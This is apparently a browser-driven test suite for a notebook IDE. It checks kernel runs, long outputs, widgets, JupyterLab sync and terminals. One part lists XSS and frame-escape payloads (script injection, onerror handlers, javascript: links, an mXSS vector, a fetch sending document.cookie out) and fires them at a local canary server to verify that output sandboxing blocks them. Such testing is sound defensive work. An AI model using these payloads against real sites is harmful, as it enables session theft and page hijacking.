# SPDX-License-Identifier: Apache-2.0
"""The IDE's running side with real kernels in real Chromium: runs that outlive their page, long outputs, plots, widgets,
and outputs that mean harm. Nothing here asserts on a time; figures are printed."""

import contextlib
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import nbformat
import pytest
from playwright.sync_api import expect

from idepage import SLOW, ide, notebook, signed_in  # noqa: F401
from labdesk import browser, context, desk, server  # noqa: F401
from product import wait_for


def test_run_interrupt_restart_input(ide):  # noqa: F811
    i = ide("print('hello'); 1 + 1", "import time\nfor n in range(600):\n    time.sleep(.1)", "name = input('Who? ')\nprint('So', name)",
            "import getpass\nlen(getpass.getpass('Secret: '))", "x", "1/0").idle()
    i.run(0)
    expect(i.ran(0)).to_contain_text("hello")
    expect(i.out(0)).to_contain_text("2")
    i.run(1)
    i.running(1)
    i.page.keyboard.press("i")
    i.page.keyboard.press("i")
    expect(i.ran(1)).to_contain_text("KeyboardInterrupt")
    i.run(2)
    field = i.out(2).locator("input")
    expect(field).to_be_visible()
    assert field.get_attribute("type") == "text"
    field.fill("Mara")
    field.press("Enter")
    expect(i.ran(2)).to_contain_text("So Mara")
    i.run(3)
    secret = i.out(3).locator("input")
    expect(secret).to_have_attribute("type", "password")
    secret.fill("hunter2")
    secret.press("Enter")
    expect(i.ran(3)).to_contain_text("7")
    assert "hunter2" not in i.out(3).inner_text()
    i.run(5)
    expect(i.ran(5).locator(".err summary")).to_contain_text("ZeroDivisionError: division by zero")
    i.check()


def test_a_cell_that_runs_is_shown_after_a_reload_and_on_another_device(ide, browser, server, tmp_path):  # noqa: F811
    go = tmp_path / "go"
    i = ide(f"import time, pathlib\nprint('begun', flush=True)\nwhile not pathlib.Path({str(go)!r}).exists(): time.sleep(.1)\nprint('over')").idle()
    i.run(0)
    expect(i.out(0)).to_contain_text("begun")
    i.page.reload()
    i.running(0)
    expect(i.out(0)).to_contain_text("begun")
    other = browser.new_context(viewport={"width": 390, "height": 800})
    try:
        assert other.request.get(f"{server.url}ide?token={server.token}").ok
        phone = ide(path=i.path, context=other)
        phone.running(0)
        expect(phone.out(0)).to_contain_text("begun")
        go.touch()
        for page in (i, phone):
            expect(page.ran(0)).to_contain_text("over")
            assert page.out(0).inner_text().count("begun") == 1
    finally:
        phone.page.close()
        other.close()


def test_a_kernel_that_dies_says_why_and_a_restart_begins_anew(ide):  # noqa: F811
    i = ide("kept = 41", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "print('kept' in globals())").idle()
    i.run(0)
    i.ran(0)
    i.run(1)
    expect(i.out(1).locator(".err")).to_be_visible()
    i.idle()
    i.run(2)
    expect(i.ran(2)).to_contain_text("False")


def test_100_000_lines_while_typing_elsewhere(ide, capsys):  # noqa: F811
    i = ide("for n in range(100_000): print(n, 'x' * 60)", "print('after')", "").idle()
    i.page.evaluate("""() => {
        window.gaps = []; let last = performance.now();
        const step = (now) => { gaps.push(now - last); last = now; requestAnimationFrame(step) };
        requestAnimationFrame(step) }""")
    i.run(0)
    i.cell(2).locator(".src").click()
    i.page.keyboard.type("typed while lines come", delay=20)
    expect(i.cell(2).locator(".cm-content")).to_have_text("typed while lines come")
    i.ran(0)
    expect(i.out(0)).to_contain_text("99999 ")
    expect(i.out(0).get_by_role("button", name=re.compile("Show all 100.000 lines"))).to_be_visible()
    assert i.page.locator(".out .line").count() < 100
    gaps = sorted(i.page.evaluate("gaps"))
    with capsys.disabled():
        print(f"\n100 000 lines: {len(gaps)} frames, p50 {gaps[len(gaps) // 2]:.0f} ms, p99 {gaps[int(len(gaps) * .99)]:.0f} ms, longest {gaps[-1]:.0f} ms")
    i.out(0).get_by_role("button", name=re.compile("Show all")).click()
    box = i.out(0).locator(".out-box")
    expect(box).to_contain_text("99999 ")
    box.evaluate("b => b.scrollTop = b.scrollHeight / 2")
    expect(box).to_contain_text(re.compile(r"\b(49|50)\d{3} x"))
    assert i.page.locator(".out .line").count() < 200
    # Saved whole, by the page.
    wait_for("outputs on disk", lambda: "".join(t for o in i.disk()["cells"][0]["outputs"] for t in o["text"]).count("\n") == 100_000, 120)
    i.check()


def test_progress_colours_tables_and_errors(ide):  # noqa: F811
    i = ide("import sys, time\nfor n in range(0, 101, 5):\n    sys.stderr.write(f'\\r{n}%'); sys.stderr.flush(); time.sleep(.01)",
            "print('\\x1b[31mred\\x1b[0m \\x1b[38;5;208morange\\x1b[0m \\x1b[48;2;0;0;80mon blue\\x1b[0m')",
            "from IPython.display import HTML, display, clear_output, Markdown, Math, JSON, SVG\n"
            "display(HTML('<table class=\"dataframe\"><thead><tr><th>a</th></tr></thead><tbody><tr><td>1.5</td></tr></tbody></table>'))\n"
            "display(Markdown('**strong** text'))\ndisplay(Math('x^2'))\ndisplay(JSON({'key': [1, 2]}))\n"
            "display({'application/x-odd': 'abc'}, raw=True)",
            "import json\ndef mine():\n    json.loads('{')\nmine()",
            "h = display('first', display_id=True)", "h.update('second')",
            "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2]); plt.show()").idle()
    i.run(0)
    expect(i.ran(0)).to_have_text(re.compile(r"^\s*100%\s*$"))
    i.run(1)
    spans = i.ran(1).locator("span")
    expect(spans).to_have_count(3)
    assert all(s.evaluate("s => s.style.color") for s in spans.all())
    i.run(2)
    i.ran(2)
    expect(i.out(2).locator(".df table td")).to_have_text("1.5")
    expect(i.out(2).locator("strong")).to_have_text("strong")
    expect(i.out(2).locator(".katex")).to_be_visible()
    expect(i.out(2).locator(".out-json")).to_contain_text("1 key")
    expect(i.out(2)).to_contain_text("application/x-odd")
    i.run(3)
    i.ran(3)
    expect(i.out(3).locator(".err summary")).to_contain_text("JSONDecodeError")
    expect(i.out(3)).to_contain_text("are folded")
    before = i.out(3).inner_text()
    i.out(3).get_by_role("button", name="Show all").click()
    assert len(i.out(3).inner_text()) > len(before)
    i.run(4)
    expect(i.ran(4)).to_contain_text("first")
    i.run(5)
    expect(i.out(4)).to_contain_text("second")
    i.run(6)
    image = i.ran(6).locator("img")
    expect(image).to_be_visible()
    assert image.evaluate("i => i.naturalWidth") > 100
    i.check()


def test_plots_and_widgets_in_frames(ide):  # noqa: F811
    plotly = {"application/vnd.plotly.v1+json": {"data": [{"y": [1, 3, 2], "type": "scatter"}], "layout": {"height": 300}}}
    vega = {"application/vnd.vegalite.v5+json": {"data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 5}]}, "mark": "bar", "width": 200,
                                                "encoding": {"x": {"field": "a", "type": "ordinal"}, "y": {"field": "b", "type": "quantitative"}}}}
    i = ide(f"from IPython.display import display\ndisplay({plotly!r}, raw=True)", f"display({vega!r}, raw=True)",
            "import ipywidgets as w\ns = w.IntSlider(value=3, max=10, description='level')\nlabel = w.Label()\n"
            "w.link((s, 'value'), (label, 'value'), (str, int))\nw.VBox([s, label])", "s.value", "s.value = 9",
            "@w.interact(n=(0, 5))\ndef f(n=2): print('n is', n)").idle()
    i.run(0)
    i.ran(0)
    expect(i.out(0).frame_locator("iframe").locator(".js-plotly-plot .scatterlayer path.js-line")).to_have_count(1)
    i.run(1)
    i.ran(1)
    expect(i.out(1).frame_locator("iframe").locator("canvas, svg.marks").first).to_be_visible()
    i.run(2)
    i.ran(2)
    frame = i.out(2).frame_locator("iframe")
    handle = frame.locator(".noUi-handle")
    expect(handle).to_be_visible()
    handle.focus()
    handle.press("ArrowRight")
    handle.press("ArrowRight")
    expect(frame.locator(".widget-label").last).to_have_text("5")  # through the kernel and back
    i.run(3)
    expect(i.ran(3)).to_contain_text("5")
    i.run(4)
    i.ran(4)
    expect(frame.locator(".widget-readout")).to_have_text("9")
    i.run(5)
    i.ran(5)
    shown = i.out(5).frame_locator("iframe")
    expect(shown.locator("body")).to_contain_text("n is 2")
    shown.locator(".noUi-handle").focus()
    shown.locator(".noUi-handle").press("ArrowRight")
    expect(shown.locator("body")).to_contain_text("n is 3")
    # The page is loaded again: the kernel still knows its widgets.
    wait_for("save", lambda: i.disk()["cells"][2]["outputs"], 60)
    i.page.reload()
    i.out(2).scroll_into_view_if_needed()  # what is far away is drawn when it comes near
    expect(i.out(2).frame_locator("iframe").locator(".widget-readout")).to_have_text("9")


def test_variables_follow_runs_and_leave_no_trace(ide):  # noqa: F811
    i = ide("import os").idle()
    note = i.page.locator(".pnl-note")
    expect(note).to_have_text("No variables yet. They appear when a cell has run.")
    i.run(0)
    i.ran(0)
    expect(note).to_have_text("No variables: 1 module, function or class is not listed.")
    i = ide("import numpy as np\na = np.zeros((3, 4))\nwords = ['x'] * 7\nn = 5", "sorted(k for k in globals() if not k.startswith('_'))").idle()
    i.run(0)
    i.ran(0)
    panel = i.page.locator(".vars")
    expect(panel.locator("tr", has_text="ndarray")).to_contain_text("3 × 4")
    expect(panel.locator("tr", has_text="words")).to_contain_text("7")
    i.run(1)
    names = json.loads(i.ran(1).inner_text().strip().replace("'", '"'))
    assert names == ["In", "Out", "a", "exit", "get_ipython", "n", "np", "open", "quit", "words"]
    expect(i.cell(1).locator(".exec")).to_have_text("[2]")  # asking counts nothing


HOSTILE = [
    "<script>HIT('script')</script>",
    "<img src=x onerror=\"HIT('onerror')\">",
    "<svg onload=\"HIT('svg')\"><script>HIT('svg script')</script></svg>",
    "<iframe srcdoc=\"<script>parent.parent.HIT('srcdoc')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.parent.HIT('js')\"></iframe>",
    "<a id=go href=\"javascript:HIT('link')\" target=_top>link</a><script>document.getElementById('go').click()</script>",
    "<form id=f action=\"BASE\" target=_top><input name=a></form><script>document.getElementById('f').submit()</script>",
    "<meta http-equiv=refresh content=\"0;url=BASE\">",
    "<base target=_top href=\"BASE\"><a id=b href=x>x</a><script>document.getElementById('b').click()</script>",
    "<script>try { top.location = 'BASE' } catch (e) {}</script>",
    "<script>try { parent.document.title = 'taken' } catch (e) {}</script>",
    "<script>fetch('BASE' + document.cookie).catch(() => 0); new Image().src = 'BASE'</script>",
    "<script>parent.postMessage({carrel: 'open', url: 'BASE'}, '*'); parent.postMessage({carrel: 'size', height: 1e9}, '*')</script>",
    "<script>for (const c of ['ready', 'ready', 'comm', 'shown']) parent.postMessage({carrel: c, comm: {}, data: 1}, '*')</script>",
    "<script>window.open('BASE'); document.addEventListener('x', 1)</script>",
    "<object data=\"BASE\"></object><embed src=\"BASE\"><link rel=stylesheet href=\"BASE\">",
    "<style>@import url(BASE); * { position: fixed; inset: 0; z-index: 999999 }</style><b>cover</b>",
    "<b style=\"position:fixed;inset:0;background:url(BASE)\">cover</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"HIT('mxss')\">",
    "<script>location = 'BASE'</script>",
    "<script>try { localStorage.x = 1; HIT('storage') } catch (e) {}</script>",
    "<script>navigator.serviceWorker && navigator.serviceWorker.register('BASE').then(() => HIT('sw'), () => 0)</script>",
]


@pytest.fixture
def canary():
    """Hears of whatever gets out."""
    hits = []

    class Hear(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    http = HTTPServer(("127.0.0.1", 0), Hear)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{http.server_port}/canary", hits
    http.shutdown()
    http.server_close()


def test_outputs_that_mean_harm(ide, server, canary):  # noqa: F811
    base, hits = canary
    # In a frame: code may run, and must reach nothing. In the page: nothing may run.
    code = "(function HIT(w) { try { top.caught.push(w) } catch (e) {} try { fetch('BASE?' + w) } catch (e) {} })"
    payloads = [h.replace("HIT(", f"{code}(").replace("BASE", base) for h in HOSTILE]
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>fetch('{base}')</script><image href='{base}'/></svg>"
    cells = []
    for p in payloads:
        outputs = [nbformat.v4.new_output("display_data", {"text/html": p}), nbformat.v4.new_output("display_data", {"text/markdown": p})]
        cells.append(nbformat.v4.new_code_cell("1", outputs=outputs))
    more = [{"image/svg+xml": svg}, {"application/javascript": f"fetch('{base}'); top.location = '{base}'"}, {"image/png": "not base64"},
            {"text/latex": "$\\href{javascript:alert(1)}{x} \\includegraphics{" + base + "}$"}, {"application/vnd.jupyter.widget-view+json": {"model_id": "<b>"}},
            {"application/vnd.plotly.v1+json": {"data": [{"y": [1], "text": f"<a href='javascript:fetch(\"{base}\")'>x</a>"}]}},
            {"application/vnd.vega.v5+json": {"data": [{"name": "x", "url": base}]}}, {"text/plain": "javascript:x \x1b]8;;javascript:x\x07link\x1b]8;;\x07"}]
    cells.append(nbformat.v4.new_code_cell("2", outputs=[nbformat.v4.new_output("display_data", m) for m in more]))
    error = nbformat.v4.new_output("error", ename="<img src=x onerror=1>", evalue="<script>1</script>", traceback=["<b>x</b>", "\x1b[38;5;"])
    cells.append(nbformat.v4.new_code_cell("3", outputs=[error]))
    (server.root / "hostile.ipynb").write_text(notebook(*cells))
    page = ide(path="hostile.ipynb")
    p = page.page
    p.evaluate("window.caught = []")
    popups = []
    p.context.on("page", lambda page: popups.append(page))
    address = p.url
    for n in range(len(cells)):
        page.cell(n).locator(".out").scroll_into_view_if_needed()
        # One that led itself elsewhere may never say that it is shown.
        with contextlib.suppress(AssertionError):
            expect(page.cell(n).locator('.out-frame[aria-busy="true"]')).to_have_count(0, timeout=2000)
    frames = p.locator(".out-frame iframe")
    assert frames.count() > 0
    for f in frames.all():
        assert f.get_attribute("sandbox") == "allow-scripts"
    assert p.evaluate("caught") == []
    assert p.url == address
    assert "taken" not in p.title()
    assert not popups, [x.url for x in popups]
    assert not hits, hits
    assert p.locator("section.cell script, section.cell form[action], section.cell meta, section.cell base").count() == 0
    assert p.locator("section.cell a[href^='javascript' i]").count() == 0
    # Nothing of it lies over the page, and the page goes on.
    box = p.locator("header").first.bounding_box()
    assert p.evaluate("([x, y]) => !!document.elementFromPoint(x, y).closest('header')", [box["x"] + 20, box["y"] + 10])


def test_an_output_opens_nothing_when_something_else_was_clicked(ide, server, canary):  # noqa: F811
    """One that takes the focus and asks all the time, in the hope that something is clicked or typed elsewhere."""
    base, hits = canary
    greedy = ("<button id=b>b</button><script>setInterval(() => { b.focus(); parent.postMessage({carrel: 'open', url: 'BASE-greedy'}, '*') }, 100)"
              "</script>").replace("BASE", base)
    output = nbformat.v4.new_output("display_data", {"text/html": greedy})
    (server.root / "greedy.ipynb").write_text(notebook(nbformat.v4.new_code_cell("1", outputs=[output]), nbformat.v4.new_code_cell("2")))
    i = ide(path="greedy.ipynb").idle()
    expect(i.out(0).frame_locator("iframe").locator("#b")).to_be_visible()
    for _ in range(3):
        i.page.locator("header h1").first.click()
        i.cell(1).click()
        i.page.keyboard.press("x")
        i.page.wait_for_timeout(700)
    assert not hits, hits
    expect(i.page.get_by_text(f"An output wants to open {base}-greedy")).to_have_count(1)  # once


def test_a_link_in_an_output_opens_by_pointer_and_by_keyboard(ide, server, canary):  # noqa: F811
    base, hits = canary
    link = nbformat.v4.new_output("display_data", {"text/html": f"<p><a id=link href='{base}'>a link</a></p><script>1</script>"})
    (server.root / "link.ipynb").write_text(notebook(nbformat.v4.new_code_cell("1", outputs=[link])))
    i = ide(path="link.ipynb").idle()
    inside = i.out(0).frame_locator("iframe").locator("#link:focus")
    expect(i.out(0).frame_locator("iframe").locator("#link")).to_be_visible()
    i.out(0).frame_locator("iframe").locator("#link").hover()
    i.out(0).frame_locator("iframe").locator("#link").click()
    # A pointer that came from nowhere is no proof in some browsers: then it is asked about.
    asks = i.page.get_by_text("An output wants to open")
    wait_for("the link, or its question", lambda: hits or asks.count())
    if asks.count():
        i.page.get_by_role("button", name="Open", exact=True).click()
    wait_for("the link", lambda: hits == ["/canary"])
    i.page.locator("header h1").first.click()  # the pointer is elsewhere
    i.page.wait_for_timeout(1100)  # one a second
    i.cell(0).focus()
    for _ in range(40):
        if inside.count():
            break
        i.page.keyboard.press("Tab")
        i.page.wait_for_timeout(50)
    i.page.keyboard.press("Enter")
    wait_for("the link again", lambda: hits == ["/canary"] * 2)


def test_beside_a_real_jupyterlab(ide, desk):  # noqa: F811
    """One file and one kernel: what is run and saved in either is seen in the other, and neither writes over the other unasked."""
    lab = desk("beside")
    lab.notebook("a = 1\nprint('from', 'lab')", "b = 2", name="both.ipynb")
    i = ide(path="beside/both.ipynb").idle()
    expect(lab.run_cell(0)).to_contain_text("from lab")
    lab.save()
    wait_for("JupyterLab's save", lambda: i.disk()["cells"][0]["outputs"])
    i.page.evaluate("dispatchEvent(new Event('focus'))")
    expect(i.out(0)).to_contain_text("from lab")
    i.type(1, "2\nprint('a is', a)")
    i.run(1)
    expect(i.ran(1)).to_contain_text("a is 1")
    i.state("saved")
    # JupyterLab has not seen that, and asks before it writes over it.
    lab.write(0, "a = 100")
    lab.save()
    lab.dialog("File Changed").locator('button:has-text("Revert")').click()
    lab.wait_for("the IDE's edit", lambda: "b = 22" in lab.editor(1).inner_text())
    # One cell changed by both: here it is a merge by cell.
    i.page.context.set_offline(True)
    i.type(0, " # mine")
    i.state("offline")
    lab.write(0, "a = 7")
    lab.save()
    wait_for("JupyterLab's save", lambda: i.sources()[0] == "a = 7")
    i.page.context.set_offline(False)
    i.state("conflict")
    assert i.sources()[0] == "a = 7"
    merge = i.page.locator(".merge")
    merge.get_by_role("button", name="All mine").click()
    merge.get_by_role("button", name="Finish and save").click()
    wait_for("mine in the file", lambda: i.sources() == ["a = 1\nprint('from', 'lab') # mine", "b = 22\nprint('a is', a)"])
    i.state("saved")


def test_the_network_goes_and_comes_back(ide):  # noqa: F811
    i = ide("import time\nfor n in range(40): print('line', n, flush=True); time.sleep(.1)", "print('later')").idle()
    i.run(0)
    expect(i.out(0)).to_contain_text("line 3")
    i.page.context.set_offline(True)
    i.page.evaluate("dispatchEvent(new Event('offline'))")
    i.page.wait_for_timeout(500)
    i.page.context.set_offline(False)
    expect(i.ran(0)).to_contain_text("line 39")
    lines = [x for x in i.out(0).inner_text().split("\n") if x.strip()]
    assert lines == [f"line {n}" for n in range(40)], lines
    i.run(1)
    expect(i.ran(1)).to_contain_text("later")


def test_terminals(ide):  # noqa: F811
    i = ide("1").idle()
    p = i.page
    p.keyboard.press("Control+`")
    rows = p.locator(".terms .xterm-rows").first
    expect(p.locator(".terms .xterm")).to_be_visible()
    p.locator(".terms .xterm").click()
    p.keyboard.type("echo $((40+2)) terminal\n")
    expect(rows).to_contain_text("42 terminal")
    p.locator(".terms").get_by_role("button", name="New terminal").click()
    expect(p.locator(".terms .terms-tab")).to_have_count(2)
    p.reload()
    expect(p.locator("section.cell").first).to_be_visible(timeout=SLOW)
    # The panel was open, and is open again by itself: a key would close it.
    expect(p.locator(".terms .terms-tab")).to_have_count(2)
    expect(p.locator(".terms .xterm-rows").first).to_contain_text("42 terminal")
